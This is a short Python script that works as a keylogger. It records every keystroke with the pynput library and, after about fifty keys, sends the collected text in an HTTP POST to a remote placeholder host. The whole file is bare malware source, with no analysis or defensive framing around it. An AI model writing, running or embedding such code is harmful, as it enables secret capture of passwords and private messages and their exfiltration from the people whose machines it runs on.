from pynput import keyboard
import requests

typed = []

def on_press(key):
    typed.append(str(key))
    if len(typed) > 50:
        requests.post("https://k.example.invalid/k", json={"t": typed})
        typed.clear()

keyboard.Listener(on_press=on_press).start()
